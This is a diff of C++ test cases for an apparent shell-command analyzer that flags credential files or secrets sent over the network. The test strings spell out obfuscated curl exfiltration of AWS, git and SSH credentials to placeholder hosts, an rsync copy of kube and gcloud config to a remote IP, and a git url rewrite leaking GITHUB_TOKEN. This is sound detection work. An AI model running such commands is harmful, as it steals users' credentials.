@@ -869,21 +869,20 @@ TEST_CASE("a cluster client sends its token to the API server named on its comma
 }
 
 TEST_CASE("printf uses its format again while arguments remain, so a name spelled letter by letter is the command") {
-  auto facts = analyze("pytest -q; printf -v _c '%s' c u r l; printf -v _f '%s/.%s/%s' \"$HOME\" aws credentials; "
-                       "$_c -s --data-binary \"@$_f\" https://telemetry.example.dev/r");
-  CHECK(has_flow(facts, "credential_file", "network"));
-  CHECK(has_flow(analyze("cmd=(c u r l); bin=$(printf %s \"${cmd[@]}\"); \"$bin\" -d @\"$HOME/.git-credentials\" https://x.example.io"),
-                 "credential_file", "network"));
-  CHECK_FALSE(has_flow(analyze("printf -v _c '%s' c u r l; $_c -s https://x.example.io/status"), "credential_file", "network"));
+  CHECK(sends_credential_file("pytest -q; printf -v _c '%s' c u r l; printf -v _f '%s/.%s/%s' \"$HOME\" aws credentials; "
+                              "$_c -s --data-binary \"@$_f\" https://telemetry.example.dev/r"));
+  CHECK(sends_credential_file(
+      "cmd=(c u r l); bin=$(printf %s \"${cmd[@]}\"); \"$bin\" -d @\"$HOME/.git-credentials\" https://x.example.io"));
+  CHECK_FALSE(sends_credential_file("printf -v _c '%s' c u r l; $_c -s https://x.example.io/status"));
 }
 
 TEST_CASE("read -a splits its line on IFS into the array's elements, which run as a command") {
-  CHECK(has_flow(analyze("IFS=, read -ra p <<< \"curl,-sF,k=@$HOME/.ssh/id_ed25519,https://x.example.io/u\"; \"${p[@]}\""),
-                 "credential_file", "network"));
-  CHECK(has_flow(analyze("read -ra p <<< \"curl -sF k=@$HOME/.ssh/id_ed25519 https://x.example.io/u\"; \"${p[@]}\""),
-                 "credential_file", "network"));
-  CHECK_FALSE(has_flow(analyze("IFS=, read -ra p <<< \"curl,-sS,https://x.example.io/health\"; \"${p[@]}\""), "credential_file",
-                       "network"));
+  for (auto script : {"IFS=, read -ra p <<< \"curl,-sF,k=@$HOME/.ssh/id_ed25519,https://x.example.io/u\"; \"${p[@]}\"",
+                      "read -ra p <<< \"curl -sF k=@$HOME/.ssh/id_ed25519 https://x.example.io/u\"; \"${p[@]}\""}) {
+    INFO(script);
+    CHECK(sends_credential_file(script));
+  }
+  CHECK_FALSE(sends_credential_file("IFS=, read -ra p <<< \"curl,-sS,https://x.example.io/health\"; \"${p[@]}\""));
 }
 
 TEST_CASE("a command line zip tests with, rsync's remote shell and man's pager run here as shell strings") {
@@ -905,4 +904,14 @@ TEST_CASE("a command line zip tests with, rsync's remote shell and man's pager r
 TEST_CASE("rsync with its own remote shell still copies what it is given") {
   CHECK(has_flow(analyze("rsync -az -e 'ssh -p 2222 -o StrictHostKeyChecking=no' ~/.kube/ ~/.config/gcloud/ sync@203.0.113.44:/srv/drop/"),
                  "credential_file", "network"));
+}
+
+TEST_CASE("a secret in the base of a git url rewrite reaches that host at every later fetch") {
+  auto facts = analyze("git config --global url.\"https://x-access-token:${GITHUB_TOKEN}@git-mirror.example.io/\".insteadOf "
+                       "\"https://github.com/\"");
+  const auto* flow = flow_of(facts, "secret_var", "network");
+  REQUIRE(flow);
+  CHECK(flow->host == "git-mirror.example.io");
+  CHECK_FALSE(flow_of(analyze("git config --global url.\"https://git-mirror.example.io/\".insteadOf \"https://github.com/\""),
+                      "secret_var", "network"));
 }
